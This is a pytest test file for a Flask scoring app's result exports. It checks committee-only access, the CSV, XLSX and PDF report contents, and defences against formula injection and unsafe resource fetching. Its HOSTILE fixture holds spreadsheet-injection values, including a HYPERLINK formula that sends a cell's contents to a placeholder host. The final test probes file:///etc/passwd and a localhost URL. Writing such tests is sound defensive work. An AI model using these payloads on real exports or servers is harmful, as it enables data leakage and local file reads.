"""CSV, XLSX and the berita acara PDF of a snapshot."""

from __future__ import annotations

import csv
import io
import subprocess
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook

from scoring.results.pdf import DataOnlyFetcher, render_pdf
from scoring.services.snapshots import publish_results
from tests.results.support import build_category

HOSTILE = {
    "E1": '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "E2": "+62 812 SUM(1,1)",
    "E3": "-2+3",
    "E4": "@SUM(A1:A9)",
    "E5": "\tTab di depan",
    "E6": "\rCR di depan",
}


def _published(app: Flask, login_as: Any, names: dict[str, str] | None = None) -> dict[str, Any]:
    with app.app_context():
        ids = build_category(names=names)
        ids["snapshot_id"] = publish_results(ids["category_id"], None, method="raw").id
    login_as("committee")
    return ids


def test_exports_need_the_committee(app: Flask, client: Any, login_as: Any) -> None:
    with app.app_context():
        ids = build_category()
        snapshot_id = publish_results(ids["category_id"], None).id
    assert client.get(f"/panitia/hasil/snapshot/{snapshot_id}.csv").status_code == 302
    login_as("judge")
    assert client.get(f"/panitia/hasil/snapshot/{snapshot_id}.csv").status_code == 403


def test_csv_cells_that_start_a_formula_come_out_inert(
    app: Flask, client: Any, login_as: Any
) -> None:
    ids = _published(app, login_as, HOSTILE)
    response = client.get(f"/panitia/hasil/snapshot/{ids['snapshot_id']}.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:4] == ["Peringkat", "Predikat", "Peserta", "Wilayah"]
    names = [row[2] for row in rows[1:]]
    for hostile in HOSTILE.values():
        assert "'" + hostile in names
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    first = rows[1]
    assert first[0] == "1" and first[1] == "Juara I" and first[-3] == "87,00"


def test_csv_for_indonesian_excel_by_default_and_standard_on_request(
    app: Flask, client: Any, login_as: Any
) -> None:
    ids = _published(app, login_as)
    url = f"/panitia/hasil/snapshot/{ids['snapshot_id']}.csv"
    excel = client.get(url)
    assert excel.data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    lines = excel.data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == (
        "Peringkat;Predikat;Peserta;Wilayah;Dokumen: nilai tahap;Dokumen: sumbangan (60%);"
        "Presentasi: nilai tahap;Presentasi: sumbangan (40%);Nilai akhir;Tahap yang dicapai;"
        "Catatan"
    )
    e1 = ids["names"]["E1"]
    # Stage 1 = 85 (× 60% = 51), stage 2 = 90 (× 40% = 36): 51 + 36 = 87.
    assert f"1;Juara I;{e1};Kabupaten E1;85,00;51,00;90,00;36,00;87,00;Presentasi;" in lines
    standard = client.get(url + "?format=standard")
    assert standard.data.startswith(b"\xef\xbb\xbf")
    assert "standar" in standard.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(standard.data.decode("utf-8-sig"))))
    assert rows[1][:9] == ["1", "Juara I", e1, "Kabupaten E1", "85.00", "51.00", "90.00",
                           "36.00", "87.00"]  # fmt: skip
    assert client.get(url + "?format=tsv").status_code == 400


def test_xlsx_numbers_are_numbers_and_text_is_inert(app: Flask, client: Any, login_as: Any) -> None:
    ids = _published(app, login_as, HOSTILE)
    response = client.get(f"/panitia/hasil/snapshot/{ids['snapshot_id']}.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = next(i for i, row in enumerate(values) if row[0] == "Peringkat")
    body = sheet.iter_rows(min_row=header + 2)
    found = set()
    for row in body:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                found.add(cell.value)
        if row[0].value == 1:
            total = row[-3]
            assert isinstance(total.value, int | float) and total.value == 87.0
            assert total.number_format == "#,##0.00"
    # XML turns a stored carriage return into a line feed when it is read back.
    assert all("'" + hostile.replace("\r", "\n") in found for hostile in HOSTILE.values())
    assert values[5][1] and len(values[5][1]) == 64  # the SHA-256 in the title block


def test_berita_acara_pdf_contains_the_winners(app: Flask, client: Any, login_as: Any) -> None:
    ids = _published(app, login_as)
    response = client.get(f"/panitia/hasil/snapshot/{ids['snapshot_id']}.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    text = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=response.data, capture_output=True, check=True
    ).stdout.decode()
    assert "BERITA ACARA PENILAIAN" in text
    for key in ("E1", "E2", "E3"):
        assert ids["names"][key] in text
    assert "Juara I" in text and "87,00" in text
    assert "Juri 1" in text and "Juri 2" in text  # the signature lines
    assert "Lomba Uji Hasil" in text and "Jambi" in text
    info = subprocess.run(
        ["pdfinfo", "-"], input=response.data, capture_output=True, check=True
    ).stdout.decode()
    assert "595.28 x 841.89" in info or "595.276 x 841.89" in info  # A4 portrait


def test_the_pdf_fetcher_refuses_everything_but_data_uris() -> None:
    fetcher = DataOnlyFetcher()
    html = (
        '<img src="file:///etc/hostname"><img src="http://127.0.0.1:9/x.png">'
        '<link rel="stylesheet" href="https://example.invalid/a.css">'
        '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22/%3E">'
    )
    pdf = render_pdf(html, fetcher)
    assert pdf.startswith(b"%PDF")
    assert {u.split(":")[0] for u in fetcher.refused} == {"file", "http", "https"}
    with pytest.raises(ValueError):
        fetcher.fetch("file:///etc/passwd")
